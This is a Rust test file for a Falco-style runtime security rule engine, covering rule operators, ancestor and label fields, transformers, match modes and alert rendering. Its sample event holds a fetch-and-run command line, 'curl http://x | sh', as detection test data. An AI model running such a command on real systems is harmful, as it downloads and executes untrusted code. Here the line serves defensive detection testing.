//! Evaluation semantics: every operator against events, missing values, lists, ancestors,
//! transformers, field comparisons, the event type index and match modes, alerts.

use sensor_rules::{MapEvent, MatchMode, RuleSource, RuleStatus, Ruleset, RulesetBuilder};

/// Compiles one rule with `condition` and tells whether `event` matches it.
fn matches(condition: &str, event: &MapEvent) -> bool {
    let ruleset = single_rule(condition);
    let matched = !ruleset.evaluate(event, MatchMode::All).is_empty();
    matched
}

fn single_rule(condition: &str) -> Ruleset {
    let yaml = format!(
        "- rule: under test\n  desc: d\n  condition: '{}'\n  output: out %proc.name\n  priority: INFO\n",
        condition.replace('\'', "''")
    );
    let compiled = RulesetBuilder::new()
        .source(RuleSource::new("test.yaml", yaml))
        .build();
    assert!(
        !compiled.report.has_errors(),
        "`{condition}`:\n{}",
        compiled.report
    );
    assert!(
        matches!(compiled.report.rules[0].status, RuleStatus::Compiled { .. }),
        "`{condition}`: {:?}",
        compiled.report.rules[0].status
    );
    compiled.ruleset
}

fn execve() -> MapEvent {
    MapEvent::new("execve")
        .with("proc.name", "bash")
        .with("proc.exepath", "/usr/bin/bash")
        .with("proc.cmdline", "bash -c 'curl http://x | sh'")
        .with("proc.args", "-c 'curl http://x | sh'")
        .with("proc.pid", 42i64)
        .with("proc.ppid", 41i64)
        .with("proc.pname", "sshd")
        .with("proc.aname[2]", "systemd")
        .with("proc.aname", vec!["sshd", "systemd"])
        .with("proc.apid", vec![41i64, 1])
        .with("user.uid", 0u32)
        .with("user.name", "root")
        .with("user.loginuid", -1i64)
        .with("evt.rawres", 0i64)
        .with("evt.rawtime", 1_700_000_000_000_000_000u64)
        .with("container.id", "host")
        .with("k8s.pod.labels", vec!["app:web", "tier:front"])
        .with("k8s.pod.label[app]", "web")
}

#[test]
fn equality_and_ordering() {
    let e = execve();
    assert!(matches("evt.type = execve and proc.name = bash", &e));
    assert!(matches("evt.type = execve and proc.name == bash", &e));
    assert!(!matches("evt.type = execve and proc.name = sh", &e));
    assert!(matches("evt.type = execve and proc.name != sh", &e));
    assert!(matches("evt.type = execve and proc.pid < 43", &e));
    assert!(matches("evt.type = execve and proc.pid <= 42", &e));
    assert!(matches("evt.type = execve and proc.pid > 41", &e));
    assert!(matches("evt.type = execve and proc.pid >= 42", &e));
    assert!(!matches("evt.type = execve and proc.pid > 42", &e));
    assert!(matches("evt.type = execve and user.loginuid = -1", &e));
    assert!(matches("evt.type = execve and proc.pid = 0x2a", &e));
    // Strings order as bytes (strcmp); the grammar wants a number after `<`.
    assert!(matches("evt.type = execve and proc.name > 1", &e));
    assert!(!matches("evt.type = execve and proc.name < 1", &e));
}

#[test]
fn string_operators() {
    let e = execve();
    assert!(matches(
        "evt.type = execve and proc.cmdline contains curl",
        &e
    ));
    assert!(matches(
        "evt.type = execve and proc.cmdline icontains CURL",
        &e
    ));
    assert!(!matches(
        "evt.type = execve and proc.cmdline contains CURL",
        &e
    ));
    assert!(matches(
        "evt.type = execve and proc.cmdline bcontains 6375726c",
        &e
    ));
    assert!(matches(
        "evt.type = execve and proc.exepath startswith /usr/",
        &e
    ));
    assert!(matches(
        "evt.type = execve and proc.exepath bstartswith 2f757372",
        &e
    ));
    assert!(matches(
        "evt.type = execve and proc.exepath endswith /bash",
        &e
    ));
    assert!(matches(
        "evt.type = execve and proc.exepath glob /usr/*/ba?h",
        &e
    ));
    assert!(matches(
        "evt.type = execve and proc.exepath iglob /USR/BIN/*",
        &e
    ));
    assert!(!matches(
        "evt.type = execve and proc.exepath glob /usr/*/sh",
        &e
    ));
    assert!(matches(
        "evt.type = execve and proc.cmdline regex \"bash -c .*\"",
        &e
    ));
    // regex is anchored at both ends, as RE2's full match.
    assert!(!matches(
        "evt.type = execve and proc.cmdline regex curl",
        &e
    ));
    assert!(matches("evt.type = execve and proc.name in (sh, bash)", &e));
    assert!(matches(
        "evt.type = execve and proc.name intersects (sh, bash)",
        &e
    ));
    assert!(matches(
        "evt.type = execve and proc.exepath pmatch (/usr/bin, /opt)",
        &e
    ));
    assert!(!matches(
        "evt.type = execve and proc.exepath pmatch (/usr/b)",
        &e
    ));
}

#[test]
fn modifiers() {
    let e = execve();
    assert!(matches(
        "evt.type = execve and proc.exepath startswith anyof (/opt, /usr)",
        &e
    ));
    assert!(matches(
        "evt.type = execve and proc.exepath startswith oneof (/usr, /opt)",
        &e
    ));
    assert!(!matches(
        "evt.type = execve and proc.exepath startswith oneof (/usr, /usr/bin)",
        &e
    ));
    assert!(matches(
        "evt.type = execve and proc.exepath contains allof (usr, bash)",
        &e
    ));
    assert!(matches(
        "evt.type = execve and proc.name = anyof (sh, bash)",
        &e
    ));
    assert!(matches(
        "evt.type = execve and proc.name != allof (sh, zsh)",
        &e
    ));
}

#[test]
fn missing_values_and_exists() {
    let e = execve();
    // Every comparison on a missing field is false, negated ones true.
    assert!(!matches("evt.type = execve and proc.cwd = /", &e));
    assert!(!matches("evt.type = execve and proc.cwd != /", &e));
    assert!(matches("evt.type = execve and not proc.cwd = /", &e));
    assert!(matches("evt.type = execve and proc.pname exists", &e));
    assert!(!matches("evt.type = execve and proc.cwd exists", &e));
}

#[test]
fn bytes_that_are_not_utf8() {
    let e = MapEvent::new("execve").with("proc.name", b"ba\xffsh".as_slice());
    assert!(matches(
        "evt.type = execve and proc.name = \"ba\\xffsh\"",
        &e
    ));
    assert!(matches("evt.type = execve and proc.name startswith ba", &e));
    assert!(matches(
        "evt.type = execve and proc.name bcontains ff73",
        &e
    ));
}

#[test]
fn ancestors_lists_and_labels() {
    let e = execve();
    assert!(matches("evt.type = execve and proc.aname = systemd", &e));
    assert!(matches("evt.type = execve and proc.aname[2] = systemd", &e));
    // [0] and [1] fall back to the process and its parent.
    assert!(matches("evt.type = execve and proc.aname[0] = bash", &e));
    assert!(matches("evt.type = execve and proc.aname[1] = sshd", &e));
    assert!(matches("evt.type = execve and proc.apid = 1", &e));
    assert!(matches(
        "evt.type = execve and proc.aname in (init, sshd)",
        &e
    ));
    // Labels: `in` needs every label in the set, `intersects` one of them.
    assert!(matches(
        "evt.type = execve and k8s.pod.labels intersects (app:web)",
        &e
    ));
    assert!(!matches(
        "evt.type = execve and k8s.pod.labels in (app:web)",
        &e
    ));
    assert!(matches(
        "evt.type = execve and k8s.pod.labels in (app:web, tier:front, x:y)",
        &e
    ));
    assert!(matches(
        "evt.type = execve and k8s.pod.labels contains \"tier:front\"",
        &e
    ));
    assert!(matches(
        "evt.type = execve and k8s.pod.label[app] = web",
        &e
    ));
    assert!(matches("evt.type = execve and k8s.pod.label.app = web", &e));
}

#[test]
fn transformers_and_field_comparisons() {
    let e = execve().with("proc.exe", "/USR/BIN/Bash");
    assert!(matches(
        "evt.type = execve and tolower(proc.exe) = /usr/bin/bash",
        &e
    ));
    assert!(matches(
        "evt.type = execve and toupper(proc.name) = BASH",
        &e
    ));
    assert!(matches(
        "evt.type = execve and basename(proc.exepath) = bash",
        &e
    ));
    assert!(matches("evt.type = execve and len(proc.name) = 4", &e));
    assert!(matches("evt.type = execve and len(k8s.pod.labels) = 2", &e));
    let encoded = MapEvent::new("execve").with("proc.args", "Y3VybCBodHRw");
    assert!(matches(
        "evt.type = execve and b64(proc.args) startswith curl",
        &encoded
    ));
    assert!(matches(
        "evt.type = execve and proc.pid > val(proc.ppid)",
        &e
    ));
    assert!(matches(
        "evt.type = execve and proc.name != val(proc.pname)",
        &e
    ));
    assert!(matches(
        "evt.type = execve and basename(proc.exepath) = val(proc.name)",
        &e
    ));
}

#[test]
fn derived_fields() {
    let e = execve();
    assert!(matches("evt.type = execve and evt.dir = <", &e));
    assert!(matches(
        "evt.type = execve and evt.res = SUCCESS and not evt.failed = true",
        &e
    ));
    let failed = execve().with("evt.rawres", -2i64);
    assert!(matches(
        "evt.type = execve and evt.res = ENOENT and evt.failed = true",
        &failed
    ));
    assert!(matches(
        "evt.type = execve and evt.res startswith E",
        &failed
    ));
    assert!(matches(
        "evt.type = execve and evt.time.iso8601 startswith 2023-11-14T22:13:20",
        &e
    ));
    assert!(matches(
        "evt.type = execve and syscall.type = execve and evt.source = syscall",
        &e
    ));
}

#[test]
fn event_type_index_and_match_modes() {
    let rules = "
- rule: first
  desc: d
  condition: evt.type in (execve, execveat) and proc.name = bash
  output: first
  priority: WARNING
- rule: second
  desc: d
  condition: evt.type = execve and user.uid = 0
  output: second
  priority: ERROR
- rule: chmod only
  desc: d
  condition: evt.type = chmod
  output: chmod
  priority: NOTICE
- rule: any type
  desc: d
  condition: proc.name = bash
  output: any
  priority: DEBUG
  warn_evttypes: false
- rule: disabled
  desc: d
  condition: evt.type = execve
  output: never
  priority: ERROR
  enabled: false
";
    let compiled = RulesetBuilder::new()
        .source(RuleSource::new("r.yaml", rules))
        .build();
    assert!(!compiled.report.has_errors(), "{}", compiled.report);
    let ruleset = compiled.ruleset;
    let e = execve();
    let first: Vec<&str> = ruleset
        .evaluate(&e, MatchMode::First)
        .iter()
        .map(|r| r.name())
        .collect();
    assert_eq!(first, ["first"]);
    let all: Vec<&str> = ruleset
        .evaluate(&e, MatchMode::All)
        .iter()
        .map(|r| r.name())
        .collect();
    assert_eq!(all, ["first", "second", "any type"]);
    let chmod = MapEvent::new("chmod").with("proc.name", "bash");
    let all: Vec<&str> = ruleset
        .evaluate(&chmod, MatchMode::All)
        .iter()
        .map(|r| r.name())
        .collect();
    assert_eq!(all, ["chmod only", "any type"]);
    // An event type Falco does not know reaches only rules without evt.type restriction.
    let odd = MapEvent::new("not_a_syscall").with("proc.name", "bash");
    let all: Vec<&str> = ruleset
        .evaluate(&odd, MatchMode::All)
        .iter()
        .map(|r| r.name())
        .collect();
    assert_eq!(all, ["any type"]);
    let listing: Vec<(&str, bool)> = ruleset
        .rules()
        .iter()
        .map(|r| (r.name(), r.enabled()))
        .collect();
    assert_eq!(listing.len(), 5);
    assert!(listing.contains(&("disabled", false)));
    assert_eq!(
        ruleset.rule("first").map(|r| r.event_types().to_vec()),
        Some(vec!["execve", "execveat"])
    );
}

#[test]
fn alert_rendering() {
    let rules = "
- rule: Shell by root
  desc: d
  condition: evt.type = execve and proc.name = bash
  output: \"Shell (user=%user.name pid=%proc.pid gparent=%proc.aname[2] cwd=%proc.cwd ancestors=%proc.aname name=%(proc.name)x upper=%toupper(proc.name) fd=%fd.name host=%evt.hostname)\"
  priority: warning
  tags: [shell, mitre_execution]
";
    let compiled = RulesetBuilder::new()
        .source(RuleSource::new("r.yaml", rules))
        .build();
    assert!(!compiled.report.has_errors(), "{}", compiled.report);
    let e = execve();
    let matched = compiled.ruleset.evaluate(&e, MatchMode::First);
    let alert = matched[0].render_alert(&e, "node-1", 1_700_000_000_123_456_789);
    assert_eq!(alert.time, "2023-11-14T22:13:20.123456789Z");
    assert_eq!(alert.rule, "Shell by root");
    assert_eq!(alert.hostname, "node-1");
    assert_eq!(alert.source, "syscall");
    assert_eq!(alert.tags, ["mitre_execution", "shell"]);
    assert_eq!(
        alert.output,
        "22:13:20.123456789: Warning Shell (user=root pid=42 gparent=systemd cwd=<NA> ancestors=sshd systemd name=bashx upper=BASH fd=<NA> host=node-1)"
    );
    let json: serde_json::Value = serde_json::from_str(&alert.to_json()).expect("valid json");
    assert_eq!(json["priority"], "Warning");
    assert_eq!(json["output_fields"]["proc.pid"], 42);
    assert_eq!(json["output_fields"]["user.name"], "root");
    assert_eq!(json["output_fields"]["proc.cwd"], serde_json::Value::Null);
    assert_eq!(json["output_fields"]["fd.name"], serde_json::Value::Null);
    assert_eq!(json["output_fields"]["toupper(proc.name)"], "BASH");
    assert_eq!(
        json["output_fields"]["evt.time"],
        1_700_000_000_123_456_789u64
    );
    for key in [
        "time",
        "rule",
        "priority",
        "source",
        "hostname",
        "output",
        "output_fields",
        "tags",
    ] {
        assert!(json.get(key).is_some(), "{key}");
    }
}

#[test]
fn match_mode_parses_falco_names() {
    assert_eq!("first".parse::<MatchMode>(), Ok(MatchMode::First));
    assert_eq!("ALL".parse::<MatchMode>(), Ok(MatchMode::All));
    assert!("some".parse::<MatchMode>().is_err());
    assert_eq!(MatchMode::default(), MatchMode::First);
}

#[test]
fn ruleset_is_send_and_sync() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Ruleset>();
    assert_send_sync::<std::sync::Arc<Ruleset>>();
}
